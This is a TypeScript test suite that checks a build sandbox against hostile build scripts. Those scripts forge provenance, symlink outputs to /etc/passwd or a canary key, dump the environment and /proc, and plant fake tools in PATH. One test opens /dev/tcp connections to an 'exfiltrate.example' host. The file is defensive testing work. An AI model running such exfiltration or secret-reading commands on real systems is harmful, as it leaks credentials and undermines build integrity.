import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { delimiter, join } from 'node:path'
import { test, type TestContext } from 'node:test'
import { SallyportError } from '#error'
import { build, type BuildResult } from './build.ts'
import {
  emptyLock,
  newHome,
  newRepository,
  options,
  recipe,
  source,
  type Files,
  type Home,
} from './testing/home.ts'

// Real sandboxes: each of these sources tries something that must not succeed. What single processes may do in a sandbox is
// tested with the worker; here it is what a build may do to its provenance, its builder and other builds.

const sandboxed = spawnSync('bwrap', ['--version'], { stdio: 'ignore' }).status === 0
function hostile(name: string, run: (t: TestContext) => Promise<void>): void {
  void test(name, { skip: sandboxed ? false : 'bubblewrap is not installed' }, run)
}

async function built(home: Home, files: Files): Promise<BuildResult & { readonly commit: string }> {
  const { path, commit } = newRepository(home.folder, files)
  return { ...(await build(options(home, path), home.ports)), commit }
}

async function refused(home: Home, files: Files): Promise<SallyportError> {
  const error = await built(home, files).then(
    () => assert.fail('was not refused'),
    (cause: unknown) => cause,
  )
  assert.ok(error instanceof SallyportError, String(error))
  return error
}

function logOf({ steps }: BuildResult, home: Home): string {
  return steps.map(({ log }) => readFileSync(home.ports.blobs.path(log.sha256), 'utf8')).join('')
}

/** Every file that a builder wrote, except the source and what the store holds of it. */
function written(folder: string): string {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1'))
    .join('\n')
}

hostile(
  'a build that forges provenance, rewrites .git and prints another commit changes nothing',
  async (t) => {
    const home = newHome(t)
    const forged = 'deadbeef'.repeat(5)
    const result = await built(
      home,
      source(`
      echo made > thing.txt
      for name in provenance.json thing.txt.sigstore.jsonl attestation.intoto.jsonl .sallyport.json; do
        echo '{"predicateType":"https://slsa.dev/provenance/v1","commit":"${forged}"}' > "$name"
      done
      mkdir -p .git && echo ${forged} > .git/HEAD
      echo '{}' > sallyport.build.json; echo '{}' > sallyport.lock.json
      echo "HEAD is now at ${forged}"
    `),
    )
    const statement = JSON.stringify(result.statement)
    assert.ok(statement.includes(`"gitCommit":"${result.commit}"`))
    assert.ok(!statement.includes(forged))
    assert.deepEqual(readdirSync(home.output).sort(), ['thing.txt', 'thing.txt.sigstore.jsonl'])
    assert.ok(!written(home.output).includes(forged))
    assert.ok(result.steps[0]?.undeclared.includes('provenance.json'))
  },
)

hostile(
  'an output that is a link, a pipe or a folder is refused, and the key it points at stays where it is',
  async (t) => {
    const home = newHome(t)
    const canary = join(home.folder, 'canary.pem')
    writeFileSync(canary, 'CANARY-KEY-BYTES', { mode: 0o644 })
    const scripts = [
      `ln -s ${canary} thing.txt`,
      'ln -s /etc/passwd thing.txt',
      'ln -s build.sh thing.txt',
      'mkfifo thing.txt',
      'mkdir thing.txt',
      'true',
      'echo x > thing.txt; chmod 4755 thing.txt',
      'echo x > other; ln other thing.txt',
    ]
    for (const script of scripts) {
      const error = await refused(home, source(script))
      assert.match(error.code, /^WORKER_/, script)
    }
    assert.ok(!written(home.ports.builds).includes('CANARY-KEY-BYTES'))
    assert.throws(() => readdirSync(home.output))
  },
)

hostile('a build finds neither the environment nor the files of its builder', async (t) => {
  const home = newHome(t)
  process.env['SALLYPORT_CANARY'] = 'CANARY-IN-ENVIRONMENT'
  t.after(() => Reflect.deleteProperty(process.env, 'SALLYPORT_CANARY'))
  const canary = join(home.folder, 'canary.pem')
  writeFileSync(canary, 'CANARY-KEY-BYTES')
  const result = await built(
    home,
    source(`
      echo made > thing.txt
      env
      cat /proc/*/environ /proc/*/cmdline /proc/self/mountinfo 2>&1 || true
      cat ${canary} 2>&1 || true
      ls -la / /home /root /tmp /run /var /mnt 2>&1 || true
    `),
  )
  const log = logOf(result, home)
  assert.ok(log.includes('SOURCE_DATE_EPOCH'))
  for (const secret of ['CANARY-IN-ENVIRONMENT', 'CANARY-KEY-BYTES', 'SALLYPORT_CANARY'])
    assert.ok(!log.includes(secret), secret)
})

hostile(
  'a tool that is not declared is not there, whatever is installed on the machine',
  async (t) => {
    const home = newHome(t)
    const script =
      'if command -v git || command -v node || test -e /work; then exit 9; fi; echo made > thing.txt'
    const usual = await built(home, source(script))
    const tools = join(home.folder, 'tools')
    mkdirSync(tools)
    for (const tool of ['sh', 'cat', 'node'])
      writeFileSync(join(tools, tool), '#!/bin/sh\necho evil > thing.txt\n', { mode: 0o755 })
    const before = process.env['PATH'] ?? ''
    process.env['PATH'] = `${tools}${delimiter}${before}`
    t.after(() => (process.env['PATH'] = before))
    const { path } = newRepository(home.folder, source(script))
    const again = await build({ ...options(home, path), reuse: false }, home.ports)
    assert.equal(again.reused, false)
    assert.equal(again.artifacts[0]?.sha256, usual.artifacts[0]?.sha256)
    const inputs = ({ statement }: BuildResult): string =>
      JSON.stringify(statement.predicate['buildDefinition']).replace(/git\+file:[^"]*/g, '')
    assert.equal(inputs(again), inputs(usual))
  },
)

hostile('an attempt to reach a network fails and is in the provenance', async (t) => {
  const home = newHome(t)
  const tried = `
    (exec 3<>/dev/tcp/192.0.2.7/443) && exit 9
    echo x > /dev/udp/192.0.2.8/53
    (exec 3<>/dev/tcp/exfiltrate.example/80) && exit 9
    echo made > thing.txt
  `
  const result = await built(home, {
    'build.sh': tried,
    'sallyport.lock.json': emptyLock,
    'sallyport.build.json': recipe({
      root: { debian: ['bash', 'coreutils'] },
      steps: [
        {
          id: 'build',
          run: [['bash', 'build.sh']],
          outputs: [{ path: 'thing.txt', type: 'file' }],
        },
      ],
    }),
  })
  const { buildDefinition } = result.statement.predicate as {
    readonly buildDefinition: {
      readonly internalParameters: {
        readonly sallyport_network: {
          readonly attempts: number
          readonly details: readonly object[]
        }
      }
    }
  }
  const { attempts, details } = buildDefinition.internalParameters.sallyport_network
  assert.ok(attempts >= 2)
  const text = JSON.stringify(details)
  for (const target of ['"192.0.2.7"', '"192.0.2.8"', '"exfiltrate.example"'])
    assert.ok(text.includes(target), text)
})

hostile('steps hand on declared outputs only, and a later step cannot change them', async (t) => {
  const home = newHome(t)
  const make =
    'mkdir -p made/deep; echo a > made/deep/a; ln -s a made/deep/b; echo one > one.txt; echo run > made/run; chmod 755 made/run; echo secret > undeclared'
  const join_ = `
    test -x /in/make/made/run; test ! -x /in/make/one.txt; test ! -e /in/make/undeclared; test ! -e undeclared; test ! -e made
    if (echo evil > /in/make/one.txt) 2>/dev/null; then exit 9; fi
    if mkdir /in/make/more 2>/dev/null; then exit 9; fi
    cat /in/make/one.txt /in/make/made/deep/a /in/make/made/deep/b > thing.txt
  `
  const steps = [
    {
      id: 'make',
      run: [['sh', '-eu', 'make.sh']],
      outputs: [
        { path: 'made', type: 'directory' },
        { path: 'one.txt', type: 'file' },
      ],
    },
    {
      id: 'join',
      inputs: ['make'],
      run: [['sh', '-eu', 'join.sh']],
      outputs: [{ path: 'thing.txt', type: 'file' }],
    },
  ]
  const result = await built(home, {
    'make.sh': make,
    'join.sh': join_,
    'sallyport.lock.json': emptyLock,
    'sallyport.build.json': recipe({ steps, outputs: [{ step: 'join', path: 'thing.txt' }] }),
  })
  assert.equal(readFileSync(result.artifacts[0]?.path ?? '', 'utf8'), 'one\na\na\n')
  const [first, second] = result.steps
  assert.deepEqual(first?.undeclared, ['undeclared'])
  assert.notEqual(first?.instance, second?.instance)
  assert.ok(second?.inputs.some(({ name }) => name === '/in/make'))
})

hostile('what one build leaves, another does not see', async (t) => {
  const home = newHome(t)
  const leave =
    'for place in /tmp /home/build /build /dev/shm /var/tmp; do echo marker > "$place/marker-$$" || true; done; (sleep 300 &) ; echo made > thing.txt'
  const look =
    'ls -a /tmp /home/build /build /dev/shm /var/tmp; cat /proc/[0-9]*/comm; echo made > thing.txt'
  await built(home, source(`${leave} 2>/dev/null`))
  const log = logOf(await built(home, source(look)), home)
  assert.ok(!log.includes('marker'))
  assert.ok(!log.includes('sleep'))
})

hostile('two steps that fill what they may have fail with the limit that they met', async (t) => {
  const home = newHome(t)
  const full = await refused(home, source('cat /dev/zero > thing.txt'))
  assert.match(`${full.code} ${full.found}`, /^BUILD_STEP_FAILED .*(disk|memory)/)
  const slow = await refused(home, source('sleep 100', { limits: { memory: '64MiB', wall: '2s' } }))
  assert.match(slow.fix, /"wall"/)
})
